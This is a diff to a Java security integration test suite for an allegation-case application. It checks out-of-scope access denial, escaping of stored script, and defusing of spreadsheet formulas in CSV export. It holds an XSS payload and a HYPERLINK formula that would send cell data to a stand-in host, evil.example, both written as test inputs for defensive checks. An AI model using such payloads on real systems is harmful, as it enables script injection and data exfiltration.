@@ -2,16 +2,11 @@ package org.blueledger.security.matrix;
 
 import jakarta.json.JsonObject;
 import org.blueledger.testsupport.Api;
-import org.blueledger.testsupport.SharedApplication;
-import org.blueledger.testsupport.SharedApplication.AppUrl;
-import org.blueledger.testsupport.TestDatabase;
+import org.blueledger.testsupport.ClientTest;
 import org.blueledger.testsupport.WebSession;
 import org.junit.jupiter.api.Test;
-import org.junit.jupiter.api.extension.ExtendWith;
 
-import java.net.URL;
 import java.util.LinkedHashMap;
-import java.util.List;
 import java.util.Map;
 import java.util.function.Supplier;
 
@@ -26,23 +21,15 @@ import static org.junit.jupiter.api.Assertions.assertTrue;
  * writes exactly one DENIED entry to the audit trail. Stored script in a summary is shown as
  * text, never run.
  */
-@ExtendWith(TestDatabase.class)
-@ExtendWith(SharedApplication.class)
-class OutOfScopeAccessIT {
-
-    @AppUrl
-    URL url;
+class OutOfScopeAccessIT extends ClientTest {
 
     @Test
     void everyPathToAnotherMissionsCaseAnswers404AndIsAuditedOnce() {
-        Api api = new Api(url);
         String owner = api.newAccount("idor-co", "CONDUCT_OFFICER", "UNMISS", null);
-        Api.Response filed = api.post("/api/v1/allegations", """
+        JsonObject c = api.filed("""
                 {"mission":"UNMISS","receivedOn":"2021-06-01","kind":"SEA","seaType":"SEXUAL_ABUSE","source":"HOTLINE",
                  "summary":"confidential summary","subjects":[{"personnelCategory":"MILITARY_CONTINGENT","nationality":"NPL","sex":"MALE"}],
-                 "victims":[{"sex":"FEMALE","ageGroup":"ADULT","name":"V"}]}""", owner, PASSWORD);
-        assertEquals(201, filed.status(), filed.body());
-        JsonObject c = filed.json();
+                 "victims":[{"sex":"FEMALE","ageGroup":"ADULT","name":"V"}]}""", owner);
         String ref = c.getString("reference");
         long victim = c.getJsonArray("victims").getJsonObject(0).getJsonNumber("id").longValue();
         Api.Response attached = api.postBytes("/api/v1/allegations/" + ref + "/attachments?kind=EVIDENCE&fileName=a.pdf",
@@ -94,17 +81,15 @@ class OutOfScopeAccessIT {
 
     @Test
     void aStoredScriptInASummaryIsShownAsTextAndNeverRuns() {
-        Api api = new Api(url);
         String officer = api.newAccount("xss-co", "CONDUCT_OFFICER", "UNMISS", null);
         String payload = "<script>alert('x')</script><img src=x onerror=alert(1)>";
-        Api.Response filed = api.post("/api/v1/allegations", """
+        JsonObject filed = api.filed("""
                 {"mission":"UNMISS","receivedOn":"2021-06-01","kind":"OTHER_MISCONDUCT","seriousness":"NON_SERIOUS",
                  "source":"EMAIL","summary":"%s","location":"%s"}""".formatted(payload.replace("\"", "\\\""),
-                payload.replace("\"", "\\\"")), officer, PASSWORD);
-        assertEquals(201, filed.status(), filed.body());
-        assertEquals(payload, filed.json().getString("summary"), "the API returns the text as stored, as JSON");
+                payload.replace("\"", "\\\"")), officer);
+        assertEquals(payload, filed.getString("summary"), "the API returns the text as stored, as JSON");
         String page = WebSession.signIn(api.base(), officer, PASSWORD)
-                .get("/allegation/view.xhtml?ref=" + filed.json().getString("reference")).body();
+                .get("/allegation/view.xhtml?ref=" + filed.getString("reference")).body();
         assertFalse(page.contains("<script>alert('x')</script>"), "no raw script in the page");
         assertFalse(page.contains("<img src=x onerror"), "no raw markup in the page");
         assertTrue(page.contains("&lt;script&gt;alert("), "the summary is escaped text");
@@ -112,15 +97,12 @@ class OutOfScopeAccessIT {
 
     @Test
     void aFormulaInASummaryIsDefusedInTheCsvExportWhichIsScopedAndAudited() {
-        Api api = new Api(url);
         String officer = api.newAccount("csv-co", "CONDUCT_OFFICER", "UNAMID", null);
         String formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")";
-        Api.Response filed = api.post("/api/v1/allegations", """
+        JsonObject filed = api.filed("""
                 {"mission":"UNAMID","receivedOn":"2019-06-01","kind":"OTHER_MISCONDUCT","seriousness":"NON_SERIOUS",
-                 "source":"EMAIL","summary":%s,"location":"@SUM(1+1)"}""".formatted(jakarta.json.Json.createValue(formula)),
-                officer, PASSWORD);
-        assertEquals(201, filed.status(), filed.body());
-        String ref = filed.json().getString("reference");
+                 "source":"EMAIL","summary":%s,"location":"@SUM(1+1)"}""".formatted(jakarta.json.Json.createValue(formula)), officer);
+        String ref = filed.getString("reference");
         Api.Response csv = api.get("/api/v1/allegations/export?mission=UNAMID", officer, PASSWORD);
         assertEquals(200, csv.status(), csv.body());
         assertTrue(csv.contentType().startsWith("text/csv"), csv.contentType());
@@ -139,5 +121,4 @@ class OutOfScopeAccessIT {
         assertEquals(200, r.status(), r.body());
         return r.json().getJsonNumber("total").longValue();
     }
-
 }
